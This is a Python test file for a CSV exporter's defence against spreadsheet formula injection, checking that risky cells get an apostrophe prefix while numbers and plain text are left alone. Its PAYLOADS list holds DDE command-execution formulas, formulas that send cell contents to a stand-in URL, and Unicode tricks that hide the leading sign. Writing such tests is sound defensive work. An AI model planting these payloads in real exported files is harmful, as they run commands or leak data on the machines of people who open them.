from __future__ import annotations

import csv
import io

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from redactkit.csvout import csv_bytes, csv_line, harmless, neutral
from redactkit.verify.cells import comparable, would_run

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("start", DANGEROUS)
@pytest.mark.parametrize("rest", ["", "SUM(A1)", "cmd|' /C calc'!A0", "HYPERLINK(A1)", "1+1", "-", "5x"])
@pytest.mark.parametrize("before", ["", " ", "\u200b", "\ufeff "])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(start: str, rest: str, before: str) -> None:
    assert neutral(before + start + rest)[0] == "'"


NUMBERS = ["-5", "+1", "3.5", "-0.25", "+.5", "-1,234,567.89", "0", "-1234", "12", "1e5", "-1e5", "+3.50"]
NUMBERS += ["-1.5E-3", "-$3.50", "+$1,200", "-5%", "-0.5 %", "+17815550137"]

# The usual lists of formulas that run when a file is opened, and ways to hide their first sign.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"look")',
    '=IMPORTXML(CONCAT("https://example.org/",A2),"//a")',
    '=WEBSERVICE("https://example.org/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "+1-781-555-0137",
    "-2+3+cmd|' /C calc'!A0",
    "-e5",
    "+A1",
    "-$A$1",
    "--1",
    "-5;=1+1",
    "-5\n",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u00ad=1+1",
    "\u2060=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bSUM(1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_begins_a_cell(payload: str) -> None:
    (read,) = csv.reader(io.StringIO(csv_line([payload, "x"]), newline=""), strict=True)
    assert read[0].startswith("'")
    assert "=1" not in csv_line([payload]).split("'", 1)[0]


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number: str) -> None:
    assert neutral(number) == number


@pytest.mark.parametrize("almost", ["-", "+", "-1,23,4x", "-5-3", "+1+cmd", "-.", "-1,2,3"])
def test_what_is_almost_a_number_is_text(almost: str) -> None:
    assert neutral(almost) == "'" + almost


@pytest.mark.parametrize("text", ["", "'Salem's Lot", "A = B", "x@y", "a-b", "Ünïcode", "00123"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutral(text) == text


def test_controls_are_shown() -> None:
    assert harmless("a\x1b[2Jb\nc\x7f\x9b\u202e\ud800") == "a␛[2Jb␊c␡\ufffd\ufffd\ufffd"


CELLS = st.one_of(
    st.text(st.characters(codec="utf-8")),
    st.sampled_from(PAYLOADS),
    st.sampled_from(NUMBERS),
    st.builds(
        "".join, st.lists(st.sampled_from(["=", "+", "-", "$", "1", "5", ",", ".", "e", "%", " ", "'", ";"]))
    ),
)


@settings(deadline=None)
@given(st.lists(CELLS, min_size=1))
def test_the_last_check_takes_the_same_cells_for_formulas(cells: list[str]) -> None:
    """Written twice, apart: what one room neutralises the other must know, and the other way round."""
    printed = [neutral(cell) for cell in cells]
    runs = would_run(pa.array(cells, pa.string())).to_pylist()
    assert runs == [neutral(cell) != harmless(cell) for cell in cells]
    assert not any(would_run(pa.array(printed, pa.string())).to_pylist())
    plain = [cell for cell in cells if cell == cell.strip() and cell.isprintable()]
    assert [comparable(neutral(cell)) for cell in plain] == [comparable(cell) for cell in plain]


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1))
def test_a_line_reads_back_and_is_one_line(cells: list[str]) -> None:
    line = csv_line(cells)
    assert line.count("\n") == 1
    assert "\r" not in line
    (read,) = csv.reader(io.StringIO(line, newline=""), strict=True) if line != "\n" else ([""],)
    assert read == [neutral(cell) for cell in cells]
    assert all(not cell or cell[0] not in DANGEROUS or neutral(cell) == cell for cell in read)


def test_a_file_has_lf_alone() -> None:
    assert csv_bytes(("a", "b"), [("1", 'x"y'), ("=2", "p,q")]) == b'a,b\n1,"x""y"\n\'=2,"p,q"\n'
